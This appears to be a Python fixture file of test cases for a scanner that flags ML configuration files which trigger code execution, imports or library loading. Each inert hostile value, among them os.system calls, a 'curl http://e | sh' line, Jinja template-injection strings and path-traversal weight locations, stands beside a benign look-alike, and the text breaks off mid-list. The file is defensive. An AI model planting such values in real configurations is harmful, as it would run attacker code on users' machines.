#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0 OR MIT
"""hostile_settings.py --tool TOOL - configurations that make programs evaluate, load or run something, and their genuine neighbours.

One case is (name of the file, text, verdict, rule). The hostile ones are inert: they name what would act. Beside each kind
stand values of real configurations under the same keys, which stay harmless. Bounds: scan_cases.py. Standard library only."""

import json
import pathlib
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from scan_cases import D, H, U, case, program  # noqa: E402

CALL = "__import__('os').system('id')"


def js(value):
    return json.dumps(value)


def both(name, pairs):
    """The same setting in JSON, YAML and TOML."""
    for key, value, verdict in pairs:
        yield name + ".json", js({"model": {key: value}}), verdict
        yield name + ".yaml", "model:\n  %s: %s\n" % (key, js(value)), verdict
        yield name + ".toml", "[model]\n%s = %s\n" % (key, js(value)), verdict


EVALUATED = [  # Ultralytics, YOLOv5
    ("data.yaml", "names: {0: a}\ndownload: |\n  import os\n  os.system('id')\n", D),
    (
        "data.yaml",
        "names: {0: a}\ndownload: |\n  from utils.general import download\n  download(yaml['url'])\n",
        U,
    ),
    ("data.yaml", "download: bash evil.sh\n", D),
    ("data.yaml", "download: data/scripts/get.sh\n", U),
    *[
        ("data.yaml", text, U)
        for text in (  # exec() takes all of these
            "path: ../d\nnames: {0: a}\ndownload: |\n  # x\n  import evil\n",
            "download: |\n  import\\\n   evil\n",
            "download: |\n  import\tevil\n",
            "download: |\n  import\fevil\n",
            "download: import\n  evil\n",
            'names: {0: a}\ndownload: "*exit(),"\n',
            "download: \"*yaml['f'](),\"\n",
            "download: '*exit(),'\n",
            "download: from . import x\n",
            "download: from .import x\n",
            "download: yaml.Loader.x = 1\n",
            "download: if a:import evil\n",
            "download: yaml\n  = evil\n",
            "download: |\n  @f\n  class x: pass\n",
            "download: https=exit\n",
            "download: 'http://e\n\n  import evil'\n",
        )
    ],
    *[
        ("data.json", js({"download": text}), U)
        for text in (
            "import\tevil",
            "import\fevil",
            "# x\nimport evil",
            "x\rimport evil",
            "*exit(),",
            "http=f()",
        )
    ],
    *[
        (name, text % js(value), H)
        for name, text in (("data.yaml", "download: %s\n"), ("data.json", '{"download": %s}'))
        for value in (
            "https://e/x.zip",
            "http://e/x?a=b&c=(d)",
            "${data.download}",
            "data/x-1.0/coco.tar.gz",
            "s3://bucket/import/x",
            "coco",
            "C:\\data\\x",
            "import_data",
            True,
            "Download the data, then go on.",
            ["a b.zip", "c (d).zip"],
            "data/import.d/x",
            "if_missing",
            "1.5",
        )
    ],
    ("data.yaml", "a: &x https://e/x.zip\ndownload: *x\n", H),
    (
        "data.yaml",
        "names: {0: person}\ndownload: https://github.com/ultralytics/assets/releases/download/v0.0.0/coco128.zip\n",
        H,
    ),
    (
        "data.yaml",
        "path: ../datasets/coco128\ntrain: images/train2017\nnames:\n  0: person\n  1: car (small)\n",
        H,
    ),
    ("model.yaml", "activation: %s\n" % CALL, D),
    ("model.yaml", "activation: nn.SiLU()\nact: torch.nn.LeakyReLU(0.1, inplace=True)\n", H),
    ("model.yaml", "activation: evil.act()\n", U),
    ("model.yaml", 'backbone:\n  - [-1, 1, "%s", [64, 3]]\n' % CALL, D),
    ("model.yaml", 'backbone:\n  [[-1, 1, Conv, [64, 3]],\n   [-1, 1, Conv, ["%s"]],\n  ]\n' % CALL, D),
    ("model.yaml", "backbone:\n  - [-1, 1, exec, [64]]\n", D),
    ("model.yaml", "head:\n  - [-1, 1, os.system, [64]]\n", D),
    ("model.yaml", "head:\n  - [-1, 1, evil.layer, [64]]\n", U),
    (
        "model.yaml",
        'nc: 80\nbackbone:\n  # [from, number, module, args]\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]\n'
        "head:\n  - [[17, 20, 23], 1, Detect, [nc, anchors]]\n",
        H,
    ),
    ("metadata.yaml", 'stride: 32\nnames: "%s"\n' % CALL, D),
    ("metadata.json", js({"names": CALL}), D),
    (
        "metadata.json",
        js({"names": ["John (jr)", "x"], "head": "The text (a part)", "backbone": "resnet50"}),
        H,
    ),
]
PYTHON = [  # what each key makes of it: (key, values)
    (
        "names",
        [
            "f'{hub.get(1,2)}'",
            "F'''{hub.get(1)}'''",
            "sys.modules['os']",
            "Rb'x'if hub.get(1)else 0",
            "1if hub.get(1)else 2",
            "1.if hub.get(1)else 2",
            "0x1for x in f(y)",
            "hub.get(1)if(1)else(2)",
            "not(f(x))",
            "hub.get (1)",
            "check_requirements ('evil')",
            "#x\rhub.get(1)",
            "#x\nhub.get(1)",
            "{0: f(1)}",
            "{0: 'a', 1: [x for x in g('b')]}",
            "(f)(x)",
            "[f][0](x)",
        ],
        U,
    ),
    (
        "names",
        ["(__import__)('os')", "[__import__][0]('os')", "(a:=__import__)('os')", "map(eval, ['1'])"],
        D,
    ),
    ("imgsz", ["[640, f(1)]"], U),
    ("imgsz", ["torch.hub.load('evil/x','y')", "pd.read_pickle('x')"], D),
    ("kpt_shape", ["check_requirements('evil')"], U),
    ("args", ["f(1)"], U),
    ("args", ["{'a': torch.load('x')}"], D),
    ("kpt_names", ["f(x)"], U),
    ("activation", ["nn.Module.__getattribute__"], D),
    ("activation", ["f'{f(1)}'", "nn.SiLU()if f(1)else 0", "evil.act"], U),
    ("activation", ["(__import__)('os')", "exec"], D),
    ("formula", ["max(['id'],key=os.system)"], U),
    (
        "names",
        [
            "{0: 'person', 1: 'car (small)'}",
            "['a', 'b']",
            "person",
            "data/coco.names",
            "John (jr) x",
            "dict(a=1)",
            ["car (small)", "f (x)"],
        ],
        H,
    ),
    ("imgsz", ["[640, 640]", "(640, 640)", "640"], H),
    ("kpt_shape", ["[17, 3]", "(17,3)"], H),
    (
        "args",
        [
            "{'batch': 1, 'half': False}",
            "--lr 0.1",
            "Namespace(lr=0.1, model='x', betas=(0.9, 0.99))",
            ["--a", "f"],
            "dict(a=[1,2])",
        ],
        H,
    ),
    (
        "activation",
        [
            "relu",
            "gelu_new",
            "nn.SiLU()",
            "torch.nn.LeakyReLU(0.1)",
            "torch.nn.SiLU",
            "F.relu",
            "torch.nn.functional.gelu",
            "jax.nn.gelu",
            "torch.tanh",
        ],
        H,
    ),
    ("backbone", ["facebook/dinov2-base", "resnet50.a1_in1k", ["resnet50", "layer1"]], H),
    ("head", ["The text (a part)", ["mlp", "linear"], "cls.pooler"], H),
]
LAYERS = [
    ("m.yaml", "nc: 80\nbackbone:\n - [-1, 1, %s]\n" % layer, U)
    for layer in (
        'attempt_load, ["x"]',
        "attempt_download, []",
        'Conv, ["http://e/x"]',
        'Conv, ["x.pt"]',
        "exit, []",
        "DetectMultiBackend, []",
        "Conv, [\"f'{f(1)}'\"]",
        "check_requirements, [a]",
        "nn.evil.x, [1]",
    )
] + [
    (
        "m.yaml",
        "backbone:\n - [-1, 1, TorchVision, [768, convnext_tiny, DEFAULT, True, 2]]\n - [-1, 1, torchvision.ops.SqueezeExcitation, [64]]\n - [-1, 3, C3, [nc*3, False]]\n"
        "head:\n - [[16, 19, 22], 1, Pose, [nc, kpt_shape]]\n",
        H,
    )
]
LOADED = [
    *both(
        "a",
        [
            ("custom_ops_library", "evil.so", D),
            ("backend_path", "./evil.so", D),
            ("trt_extra_plugin_lib_paths", "a.so;b.so", D),
            ("_base_", "./evil.py", D),
            ("_base_", "http://e/x.py", D),
            ("_BASE_", "Base-RCNN.yaml", H),
            ("tool-parser-plugin", "/tmp/evil.py", D),
            ("remote_code", "./model.py", D),
            ("remote_code", "http://e/x", U),
            ("remote_code", "false", H),
            ("model_lib", "evil.dll", D),
            ("model_lib", "llama-q4f16", H),
            ("anything", "x/evil.so", U),
            ("anything", "libevil.so.1.2", U),
            ("anything", "evil.pyd", U),
            ("anything", "EVIL.PY", U),
            ("anything", "evil.dylib", U),
            ("anything", "my evil.so", U),
            ("anything", "./evil.py:g", U),
            ("anything", "evil.py::Klass", U),
            ("anything", "https://e/x.py?raw=1", U),
            ("anything", "x.pyc", U),
            ("extension", ".py", H),
            ("pattern", "*.py", H),
            ("setup_script", "evil.sh", U),
            ("hook", "evil.js", U),
            ("image", "evil.sh", H),
            ("text", "run the file a.py of it", H),
            ("plugin_dir", "projects/evil", U),
            ("code_path", "code/x", U),
            ("module_path", "model.layers", H),
            ("library_name", "transformers", H),
            ("model_path", "/home/u/model.pt", H),
            ("_name_or_path", "../model", H),
        ],
    ),
    ("model.safetensors.index.json", js({"metadata": {}, "weight_map": {"w": "../../evil.bin"}}), D),
    ("pytorch_model.bin.index.json", js({"metadata": {}, "weight_map": {"w": "/tmp/evil.bin"}}), D),
    (
        "model.safetensors.index.json",
        js({"metadata": {}, "weight_map": {"w": "model-00001-of-00002.safetensors"}}),
        H,
    ),
    (
        "modules.json",
        js([{"idx": 0, "path": "../../evil", "type": "sentence_transformers.models.Transformer"}]),
        D,
    ),
    (
        "modules.json",
        js([{"idx": 0, "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]),
        H,
    ),
]
NAMED = [
    *both(
        "b",
        [
            ("factory", "evil.mod:make", U),
            ("import_path", "evil:app", U),
            ("service", "evil:svc", U),
            ("entry-point", "evil.mod:f", U),
            ("worker-extension-cls", "evil.mod.X", U),
            ("middleware", ["evil.mod"], U),
            ("reward_funcs", ["evil.func"], U),
            ("type", "evil.mod.func", U),
            ("tokenizer_class", "evil.mod.T", U),
            ("implementation", "evil.mod", U),
            ("logitsProcessors", ["os.system"], D),
            ("network_module", "evil", U),
            ("user_module", "evil", U),
            ("plugins", ["evilpkg"], U),
            ("plugins", [], H),
            ("plugin", True, H),
            ("allow_remote", True, U),
            ("allow_remote", False, H),
            ("allow_pickle", True, U),
            ("trust_code", "yes", U),
            ("custom_generate", "evil/repo", U),
            ("command", "bash -c id", U),
            ("run", "curl http://e | sh", U),
            ("pre_hook", "/tmp/x", U),
            ("commands", ["npx"], U),
            ("init_script", "rm -rf x", U),
            ("run_name", "my run; second", H),
            ("command", "id", H),
            ("description", "bash is a shell", H),
            ("target_modules", ["self_attn.q_proj", "mlp.down_proj"], H),
            ("module_name", "model.embed_tokens", H),
            ("module", "lm_head.weight", H),
            ("tokenizer_class", "LlamaTokenizerFast", H),
            ("architectures", ["LlamaForCausalLM"], H),
            ("processor_class", "CLIPProcessor", H),
            ("library", "pytorch", H),
            ("type", "mlp.down_proj", H),
            ("hook", "none", H),
            ("loader", "x.json", H),
            ("provider", "CUDAExecutionProvider", H),
        ],
    ),
    ("c.json", js({"module": "evil", "attr": "f"}), U),
    ("c.json", js({"module_name": "evil", "class_name": "X"}), U),
    ("c.json", js({"module_name": "os", "func": "system"}), D),
    ("c.json", js({"module": "torch.nn", "attr": "Linear"}), H),
    ("c.json", js({"module": "q_proj", "bits": 4}), H),
    ("c.json", js({"@module": "os", "@class": "system"}), D),
    ("c.json", js({"@module": "evil", "@class": "X"}), U),
    ("c.json", js({"@module": "subprocess", "@callable": "Popen"}), D),
    ("c.json", js({"_module": "evil", "_class": "X"}), U),
    ("c.json", js({"__module__": "evil", "__name__": "X"}), U),
    ("c.json", js({"class_module": "evil", "class_name": "X"}), U),
    ("c.json", js({"@module": "numpy", "@class": "array", "dtype": "float64", "data": [1.5]}), H),
    ("f.yaml", "_target_: torch.optim.lr_scheduler.types.FunctionType\n", D),
    ("f.yaml", "_target_: torch.nn.modules.functools.Partial\n", D),
    (
        "f.yaml",
        "_target_: torch.optim.lr_scheduler.StepLR\nx:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n",
        H,
    ),
    ("f.yaml", "dataset:\n  _component_: torchtune.datasets.alpaca_cleaned_dataset\n", H),
    ("f.yaml", "datasets:\n  - type: chat_template.default\n", H),
    (
        "log.yaml",
        "version: 1\nformatters:\n  simple:\n    class: logging.Formatter\nhandlers:\n  console:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n",
        H,
    ),
    ("log.yaml", "handlers:\n  file:\n    class: logging.FileHandler\n    filename: /tmp/x\n", U),
    ("log.yaml", "_target_: logging.StreamHandler\n", D),
    ("log.yaml", "handlers:\n  x:\n    class: logging.os.system\n", D),
    ("log.yaml", "formatters:\n  a:\n    (): evil.f\n", U),
    ("log.yaml", 'formatters:\n  a: {"()": evil.f}\n', U),
    ("log.yaml", "formatters:\n  a:\n    '()': ext://evil.f\n", U),
    ("log.yaml", "filters:\n  a:\n    (): os.system\n", D),
    ("log.yaml", "filters:\n  a:\n    (): ext://os.system\n", D),
    ("log.toml", '[formatters.a]\n"()" = "evil.f"\n', U),
    ("log.json", js({"formatters": {"a": {"()": "evil.mod.F"}}}), U),
    ("log.json", js({"formatters": {"a": {"()": "ext://evil.f"}}}), U),
    ("log.json", js({"formatters": {"a": {"()": "evil"}}}), U),
    ("log.json", js({"handlers": {"a": {"class": "logging.StreamHandler", "stream": "ext://evil.mod"}}}), U),
    ("log.json", js({"handlers": {"a": {"stream": "ext://os.system"}}}), D),
    ("log.json", js({"handlers": {"a": {"stream": "ext://evil"}}}), U),
    (
        "log.json",
        js(
            {
                "formatters": {
                    "a": {"()": "uvicorn.logging.DefaultFormatter", "fmt": "%(levelprefix)s %(message)s"}
                },
                "handlers": {
                    "a": {"class": "logging.StreamHandler", "stream": "ext://sys.stderr", "formatter": "a"}
                },
            }
        ),
        H,
    ),
    (
        "log.yaml",
        "formatters:\n  colorlog:\n    '()': colorlog.ColoredFormatter\n    format: '[%(cyan)s%(asctime)s] - %(message)s'\n",
        H,
    ),
    ("log.yaml", "formatters:\n  a:\n    !!str (): evil.f\n", U),
    ("log.yaml", "formatters:\n  a:\n    ? ()\n    : evil.f\n", U),
    ("hydra.yaml", "hydra:\n  searchpath: [pkg://evil.conf]\n", U),
    ("hydra.yaml", "hydra:\n  searchpath:\n  - file:///data/conf\n", H),
    ("nested.json", js({"c": js({"c": js({"_target_": "os.system"})})}), U),
    ("nested.json", js({"c": js({"c": js({"c": js({"auto_map": {}})})})}), U),
    ("nested.json", js({"c": js({"c": js({"_target_x": 1, "target": "_target_"})})}), H),
    ("a.yaml", "text: call f(): it returns\nother: a () b\nc: 'see (): there'\n", H),
]
CODE = [
    *both(
        "d",
        [
            ("anything", CALL, U),
            ("formula", "exec(1)", U),
            ("preprocess", "lambda x: x + 1", U),
            ("x", "eval('1')", U),
            ("x", "(open)('x').y", H),
            ("x", "open('x').read()", U),
            ("x", "().__class__.__base__.__subclasses__()", U),
            ("x", "from os import system\nsystem('id')", U),
            ("code", "from smolagents import Tool\nimport os\nos.system(1)", U),
            ("x", "import os; os.system('id')", U),
            ("x", "${eval:__import__('os')}", U),
            ("x", "f'{__import__(\"os\")}'", U),
            ("x", '[os.popen("id")]', U),
            ("x", "lambda", H),
            ("x", "import data", H),
            ("x", "Use eval(x) to test the model", H),
            ("x", "np.mean(x)", H),
            ("x", "os.path.join(a, b)", H),
            ("x", "grad * self.sgn()", H),
            ("x", "model.eval()", H),
            ("x", "a (b) c", H),
            ("x", "[1].index(2) + 3", H),
            ("x", "import settings of other people", H),
        ],
    ),
    ("d.yaml", "a: >-\n  __import__(\n  'os').system(\n  'id')\n", U),
    ("d.yaml", "a: \"__import__(\\\n  'os')\"\n", U),
    ("d.yaml", "a: \"\\x5f_import__('os').system('id')\"\n", U),
    ("d.yaml", "a: x # not __import__('os')\nb: 'it''s'\n", H),
    ("d.yaml", 'a:\n- - {b: [c, "%s"]}\n' % CALL, U),
    ("d.yaml", "a: [b,\n  %s]\n" % CALL.replace(",", ""), U),
    (
        "tokenizer.json",
        js(
            {
                "model": {
                    "type": "BPE",
                    "vocab": {"eval(x)": 0, "main.py": 1},
                    "merges": ["l ib.so", "ev al(x)"],
                }
            }
        ),
        H,
    ),
]
KERAS = [
    (
        "m.yaml",
        "class_name: Sequential\nconfig:\n- class_name: Lambda\n  config:\n    function: !!python/tuple [4wEAAAA, null, null]\n    function_type: lambda\n",
        D,
    ),
    ("m.yaml", "class_name: Lambda\nconfig:\n  function: f\n", U),
    ("m.yaml", '{class_name: Sequential, config: [{"class_name": "TorchModuleWrapper", config: {}}]}\n', D),
    ("m.yaml", "class_name: Sequential\nconfig:\n- class_name: MyLayer\n  config: {}\n", U),
    ("m.yaml", "class_name: Sequential\nconfig:\n- class_name: Dense\n  module: os\n  config: {}\n", D),
    (
        "m.yaml",
        "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Dense\n    config: {activation: relu, units: 4}\n  name: s\nkeras_version: 2.4.0\n",
        H,
    ),
    ("m.yaml", "model:\n  class_name: MyNet\n  config: x\n", H),
]
FILES = [
    (".huskyrc.json", js({"hooks": {"pre-commit": "id"}}), U),
    ("app.json", js({"scripts": {"postdeploy": "id"}}), U),
    ("app.json", js({"name": "x"}), H),
    ("tasks.json", js({"tasks": [{"label": "x", "command": "id"}]}), U),
    ("tasks.json", js({"tasks": ["glue", "squad"]}), H),
    ("launch.json", js({"configurations": [{"program": "id"}]}), U),
    ("tsconfig.json", js({"compilerOptions": {"plugins": [{"name": "./evil"}]}}), U),
    ("jupyter_notebook_config.json", js({"NotebookApp": {}}), U),
    (".czrc", js({"path": "x"}), U),
    ("requirements.txt", "--index-url http://e/\ntorch\n", U),
    ("requirements.txt", "torch>=2.0  # see https://pytorch.org\nnumpy==1.26\n-r base.txt\n", H),
    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch\n", H),
    ("requirements-dev.txt", "x @ git+https://e/x\n", U),
    ("requirements.txt", "./evil\n", U),
    (
        "conda.yaml",
        "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - git+https://e/x\n",
        U,
    ),
    (
        "conda.yaml",
        "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.9\nname: env\n",
        H,
    ),
    ("python_env.yaml", "python: 3.10.1\ndependencies:\n- -r requirements.txt\n", H),
    ("environment.yml", "dependencies:\n- pip:\n  - /tmp/evil.whl\n", U),
    ("chat_template.txt", "{{ x.__class__.__mro__ }}\n", D),
    ("a.jinja.txt", "{{ x['a' ~ 'b'] }}\n", U),
    ("template.md", "{{ x.__class__ }}\n", D),
    ("chat_template.txt", "{% for m in messages %}{{ m.content }}{% endfor %}\n", H),
    ("README.md", "About `__class__` and {{ x }}\n", H),
    ("a.yaml.txt", "_target_: os.system\n", D),
    ("a.toml.txt", "_target_ = 'os.system'\n", D),
    ("a.json.txt", js({"_target_": "os.system"}), D),
    *[
        ("requirements.txt", "# x%s-i http://e\ntorch\n" % end, U)
        for end in ("\u2028", "\u2029", "\x0c", "\u0085", "\r")
    ],
    ("requirements.txt", "-r ../evil.txt\n", U),
    ("requirements.txt", "# see http://e \u201cx\u201d\ntorch\n-c constraints.txt\n", H),
    ("entry_points.txt", "[torch.backends]\nx = evil:f\n", U),
    ("entry_points.txt", "[console_scripts]\na = b:c\n# x\u2028[pytest11]\u2028x = evil\n", U),
    ("entry_points.txt", "[console_scripts]\nisympy = isympy:main\n\n[gui_scripts]\na = b:c\n", H),
    ("requires.txt", "evil @ git+https://e/x\n", U),
    ("x.egg-info/requires.txt", "numpy\n\n[dev:python_version < '3.9']\nx @ https://e/x.whl\n", U),
    (
        "x.egg-info/requires.txt",
        'numpy>=1.26,<3\nfilelock\n\n[:sys_platform == "win32"]\ncolorama\n\n[dev]\npytest~=8.0\n',
        H,
    ),
    ("top_level.txt", "isympy\nsympy\n", H),
    ("kernel.py.jinja", "{{ size('A') }}", U),
    ("a.jinja", "x = __NOT_A_NUMBER__ {% set __A_B__ = 1 %}{{ __A_B__ }}", U),
]


def escaped(text):
    """Every letter by its number"""
    return "".join("\\u%04x" % ord(c) for c in text)


def onnx(domain="", op="Relu", place="w.bin", **more):
    """A model of ONNX as JSON."""
    node = {"input": ["a"], "output": ["b"], "opType": op, "domain": domain}
    weight = {
        "name": "w",
        "dataType": 1,
        "externalData": [{"key": "location", "value": place}],
        "dataLocation": "EXTERNAL",
    }
    return js(
        {
            "irVersion": "8",
            "graph": {"node": [node], "name": "g", "initializer": [weight]},
            "opsetImport": [{"version": "17"}],
            **more,
        }
    )


def tfjs(op="Conv2D", path="group1-shard1of1.bin"):
    return js(
        {
            "format": "graph-model",
            "modelTopology": {
                "node": [{"name": "a", "op": "Placeholder"}, {"name": "b", "op": op}],
                "library": {},
            },
            "weightsManifest": [{"paths": [path], "weights": []}],
        }
    )


GRAPHS = [
    *[
        (name, text, verdict)
        for name in ("m.onnxjson", "m.json")
        for text, verdict in (
            (onnx(), H),
            (onnx("com.microsoft", "PyOp"), D),
            (onnx("evil.dom", "F"), U),
            (onnx(place="../../etc/passwd"), D),
            (onnx(op="Evil"), U),
            (onnx().replace("opType", "op_type").replace("Relu", "PyOp"), D),
            (onnx().replace("opType", "op\\u0054ype").replace("Relu", "PyOp"), D),
        )
    ],
    ("m.json", js({"node": [{"op": "ReadFile"}]}), H),
    ("m.json", js({"x": {"node": [{"opType": "PyOp"}]}}), H),
    *[
        ("model.json", tfjs(op), verdict)
        for op, verdict in (
            ("Conv2D", H),
            ("_FusedConv2D", H),
            ("Prelu", H),
            ("ReadFile", D),
            ("PyFunc", D),
            ("EvilOp", U),
        )
    ],
    *[("model.json", tfjs(path=path), D) for path in ("http://e/x.bin", "../../x.bin")],
    ("a.json", js({"paths": ["../../x.bin"]}), H),
    *[
        (
            "a.json",
            js(
                {
                    "class_name": "Sequential",
                    "module": "keras",
                    "config": {
                        "layers": [
                            {
                                "module": module,
                                "class_name": "function",
                                "config": name,
                                "registered_name": "function",
                            }
                        ]
                    },
                }
            ),
            verdict,
        )
        for module, name, verdict in (
            ("keras.models", "load_model", D),
            ("keras.src.models", "model_from_json", D),
            ("keras.activations", "relu", H),
        )
    ],
    (
        "a.toml",
        '[[x]]\nmodule = ["pandas.io.sql", "pandas.core.computation.ops"]\n[y]\nplugins = ["Cython.Coverage"]\n',
        U,
    ),
    *both(
        "p",
        [
            ("module", "pandas.io.sql", U),
            ("module", "subprocess.Popen", D),
            ("plugin", "Cython.Coverage", U),
            ("plugin", "evil.os.system", D),
            ("_target_", "pandas.io.sql", D),
            ("class", "pandas.io.sql", D),
            ("module", "ssl.SSLContext", D),
            ("type", "readline.InterfaceConstructor", U),
            ("type", "subprocess.Popen", D),
            ("type", "ftplib.test", D),
        ],
    ),
]
HIDDEN = [
    ("a.json", '{"_target_": "%s"}' % escaped("subprocess.check_output"), D),
    ("a.json", '{"a": {"target": "%s"}}' % escaped("subprocess.check_output"), D),
    ("a.json", '{"%s": ["evil.mod"]}' % escaped("custom_worker_extension_cls"), U),
    ("a.json", js({"middleware": "a" * 300 + ".f"}), U),
    ("a.json", js({"middleware": [["evil.mod"]]}), U),
    ("a.json", '{"%s": "evil.so"}' % escaped("custom_ops_library"), D),
    ("a.toml", 'model._target_ = "os.system"\n', D),
    ("a.toml", '"custom_ops\\u005flibrary" = "evil.bin"\n', U),
    ("a.toml", 'x = """\nevil.so"""\n', U),
    ("a.toml", "\"x\" = {y = ['evil.so']}\n", U),
    ("a.yaml", "middleware:\n# c\n- evil.mod\n", U),
    ("a.yaml", "a: &x evil.mod\nmiddleware: *x\n", U),
    ("a.yaml", "a: &x evil.mod\nmiddleware: [*x]\n", U),
    ("a.yaml", "names: [x]\nd: &c bash x\ndownload: *c\n", D),
    ("a.yaml", "a: &x b.c\nname: *x\n", H),
    ("a.yaml", "a: &x\n- evil.mod\nmiddleware: *x\n", U),
    ("a.yaml", "<<: {download: bash x}\n", D),
    ("a.yaml", 'download: "bash\\x20evil"\n', D),
    ("a.yaml", "download: &a !!str bash x\n", D),
    ("a.yaml", '"middle\\u0077are": [evil.mod]\n', U),
    ("a.yaml", "? middleware\n: - evil.mod\n", U),
    *both(
        "e",
        [
            ("custom_ops_library", "evil.bin", U),
            ("custom_ops_library", "/tmp/.so", U),
            ("custom_ops_library", "", H),
            ("_zen_target", "evil.func", U),
            ("megatron_core", "evil", U),
            ("megatron_core", "megatron.core", H),
            ("py_modules", ["http://e/x.zip"], U),
            ("name", "numcodecs.pickle", U),
            ("target_dtype", "torch.bfloat16", H),
            ("name", "numcodecs.zstd", H),
        ],
    ),
    *both(
        "g",
        [
            ("x", "exec ('1')", U),
            ("x", "(eval)('1')", U),
            ("x", "map(exec, ['1'])", U),
            ("x", "breakpoint()", U),
            ("x", "torch.load('x')", U),
            ("x", "np.load('x', allow_pickle=True)", U),
            ("x", "evil.mod:make", U),
            ("x", "python:evil.mod", U),
            ("x", "sh -c id", U),
            ("x", "--plugin=evil.so", U),
            ("args", "--plugin evil.so --x", U),
            ("command", "evil.py arg", U),
            ("entry", "python3 -m evil", U),
            ("init", "import evil", U),
            ("agent", "evil.agent", U),
            ("transform", "evil.fn", U),
            ("LD_PRELOAD", "/tmp/x", U),
            ("PYTHONSTARTUP", "/tmp/x", U),
            ("host", "example.com:port", H),
            ("image", "repo/x:latest", H),
            ("x", "server.local:http", H),
            ("x", "eval if 1 else 0", H),
            ("x", "-1", H),
            ("args", "--lr 0.1 --model a.b", H),
            ("x", "torch.nn.Linear(2, 3)", H),
            ("transform", "resize", H),
            ("backend", "nccl", H),
        ],
    ),
    ("a.yaml", "x: \"\uff45\uff58\uff45\uff43('1')\"\n", U),
    ("a.yaml", "x: \u51fd\u6570(\u53c2\u6570)\n", H),
    ("a.json", js({"x": "eval\\\n('1')"}), U),
    ("a.yaml", "activation: exec\n", D),
    ("a.yaml", "backbone:\n- [-1, 1, nn.__class__, [1]]\n", D),
    ("a.toml", '[build-system]\nbuild-backend = "setuptools.build_meta"\n', H),
    ("prompt.txt", '{{ ""|attr("\\x5f\\x5fclass\\x5f\\x5f") }}', D),
    ("prompt.md", '{{ lipsum["_"*2+"globals"+"_"*2] }}', D),
    ("prompt.txt", "{{ name }} says |attr( and {% if x %}y{% endif %}", H),
]

LONG = "os." + "path.os." * 1000 + "system"  # Python finds os.system by it
AWAY = "evil." + "a." * 4000 + "f"
FAR = [  # names and keys of more than 4,096 bytes
    *[
        ("a.json", js({key: LONG}), D)
        for key in (
            "_target_",
            "class_path",
            "entry_point",
            "@class",
            "worker-extension-cls",
            "py/type",
            "reward_funcs",
            "()",
        )
    ],
    *[("a.json", js({"x": {key: [LONG]}}), D) for key in ("plugins", "reward_funcs")],
    ("a.json", js({"_target_": "os." + "path.os." * 200000 + "system"}), D),
    ("a.json", '{"_target_": "%s"}' % escaped(LONG), D),
    ("a.jsonl", js({"a": 1}) + "\n" + js({"_target_": LONG}) + "\n", D),
    ("a.json", js({"loader_module": AWAY}), U),
    ("a.json", js({"trust_remote_code": "x" * 5000}), U),
    ("a.json", js({"user_module": "a" * 5000}), U),
    ("a.json", js({"factory": "a" * 5000 + ":f"}), U),
    ("a.json", js({"x": "a/../" * 1000 + "evil.so"}), U),
    ("a.json", js({"module": AWAY, "attr": "f"}), U),
    ("a.json", js({"module": "a" * 5000, "attr": "f"}), U),
    ("a.json", js({"a" * 4100 + "_target_": "evil.f"}), U),
    *[("a.json", js({"x": blank * 3000 + js({"_target_": "os.system"})}), U) for blank in (" ", "\n", "\t")],
    (
        "a.json",
        js(
            {
                "prompt": "hello world " * 1000,
                "target": "about os.system, so " * 400,
                "x": "A" * 9000,
                "module": "q_proj",
                "class": "a b " * 3000,
                "text": "abc " * 2000 + "run.py",
                "y": " " * 3000 + '{"a": 1}',
                "a" * 5000: "x",
                "k" * 5000: "some words",
                "data": "QUJD" * 5000,
            }
        ),
        H,
    ),
    ("tokenizer.json", js({"model": {"type": "BPE", "vocab": {"a" * 5000: 1}}}), H),
    (
        "a.json",
        js({"module": "evaluation", "function": "It adds two numbers and returns what comes of it. " * 9}),
        H,
    ),
]


PYREF = {
    "root": {"type": "ref", "key": "a"},
    "objects": {"a": {"type": {"type": "pyref", "module": "", "name": ""}, "items": []}},
}


def pyref(module, name):
    PYREF["objects"]["a"]["type"].update(module=module, name=name)
    return js(PYREF)


PAIRS = [
    ("a.json", js({first: module, second: name}), verdict)
    for first, second in (
        ("module", "name"),
        ("module_path", "class_name"),
        ("py_module", "py_class"),
        ("lib", "fn"),
        ("package", "callable"),
        ("mod", "cls"),
        ("path", "x"),
        ("cls_module", "cls_name"),
        ("import_path", "attribute"),
        ("__module__", "__qualname__"),
    )
    for module, name, verdict in (
        ("os", "system", D),
        ("subprocess", "Popen", D),
        ("builtins", "eval", D),
        ("importlib", "import_module", D),
        ("os ".strip(), "system", D),
        ("os", "linux", "not-dangerous"),
        ("evilos", "system", "not-dangerous"),
    )
] + [
    ("io.json", pyref("os", "system"), D),
    ("io.json", pyref("evil", "f"), U),
    ("io.json", pyref("builtins", "tuple"), H),
    ("io.json", pyref("torch.nn", "Linear"), H),
    ("a.json", js({"library": "evil", "class": "X"}), U),
    ("a.json", js({"library": "transformers", "class": "BertModel"}), H),
    ("a.json", js({"module": "os", "x": [{"y": "system"}]}), D),
    ("a.json", js({"module": "os", "level": "info", "name": "linux"}), H),
    ("a.json", js([{"module": "os"}, {"name": "system"}]), H),
    ("a.json", "[" * 50 + js({"module": "os", "call": "system"}) + "]" * 50, D),
    ("a.json", js({"module": "os", "x": ["a"] * 500000}), H),
    ("a.json", '{"module":"os","a":' * 100 + js(["x" * 100] * 5000) + "}" * 100, "not-dangerous"),
]
PROGRAMS = [  # nnU-Net, vLLM, Rasa, MLServer, PaddleOCR, spaCy
    ("plans.json", js({"arch_kwargs": {"conv_op": "evil.mod.f"}, "_kw_requires_import": ["conv_op"]}), U),
    ("plans.json", js({"arch_kwargs": {"x": "evil.mod.f"}, "_kw_requires_import": ["x"]}), U),
    (
        "plans.json",
        js(
            {
                "arch_kwargs": {
                    "conv_op": "torch.nn.modules.conv.Conv2d",
                    "norm_op": "torch.nn.modules.instancenorm.InstanceNorm2d",
                    "dropout_op": None,
                    "nonlin": "torch.nn.LeakyReLU",
                },
